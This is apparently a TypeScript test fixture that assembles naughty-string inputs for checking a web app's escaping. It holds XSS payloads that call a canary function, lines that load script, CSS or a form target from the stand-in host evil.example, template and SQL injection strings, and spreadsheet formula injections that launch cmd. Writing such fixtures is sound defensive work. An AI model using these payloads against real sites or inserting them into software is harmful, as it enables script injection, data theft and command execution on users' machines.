/** What strangers write: the Big List of Naughty Strings (Max Woolf, MIT), and what calls the canary in ways that it does not have. */
import list from 'big-list-of-naughty-strings/blns.json' with { type: 'json' }

/** Whatever of these runs calls the canary or leaves the page. */
export const SCRIPTS: readonly string[] = [
  '<script>canary(1)</script>',
  '"><script src=//evil.example/x.js></script>',
  '<img src=x onerror=canary(2)>',
  '"><img src=x onerror="canary(3)">',
  "'-canary(4)-'",
  '"; canary(5); //',
  '<svg/onload=canary(6)>',
  '<svg><script>canary(7)</script></svg>',
  '<iframe srcdoc="<script>parent.canary(8)</script>">',
  '<a href="javascript:canary(9)">click</a>',
  'javascript:canary(10)',
  '<body onload=canary(11)>',
  '<input autofocus onfocus=canary(12)>',
  '<details open ontoggle=canary(13)>',
  '<math><mi//xlink:href="data:x,<script>canary(14)</script>">',
  '{{constructor.constructor("canary(15)")()}}',
  `$\{canary(16)}`,
  '<%= canary(17) %>',
  '</title><script>canary(18)</script>',
  '</textarea><script>canary(19)</script>',
  '<style>@import "//evil.example/x.css";*{background:url(//evil.example/y)}</style>',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><button>Pay</button></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '\\u003cscript\\u003ecanary(20)\\u003c/script\\u003e',
  '&lt;script&gt;canary(21)&lt;/script&gt;',
]

const ODD: readonly string[] = [
  'hasOwnProperty',
  'toString',
  '\u202egnp.exe\u202c',
  '👩‍👩‍👧‍👦 🇩🇪 ﷽',
  'a'.repeat(400),
  '😍'.repeat(60),
  "Robert'); drop table invoice;--",
  '=cmd|" /C calc"!A1',
  '+1+cmd|" /C calc"!A1',
  '-1+cmd|" /C calc"!A1',
  '@SUM(1+1)*cmd|" /C calc"!A1',
  '\t=1+1',
  '-1e309',
]

const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter']
const TAGS = ['img src=x', 'svg', 'video src=x', 'object data=x', 'embed src=x', 'input autofocus', 'marquee']
const EVENTS = TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=canary("${tag} ${handler}")>`))

/** Each once. The records store neither nothing nor U+0000. */
export const NAUGHTY_STRINGS: readonly string[] = [...new Set([...SCRIPTS, ...ODD, ...EVENTS, ...list])].filter(
  (text) => text.trim() !== '' && !text.includes('\0') && text.isWellFormed(),
)
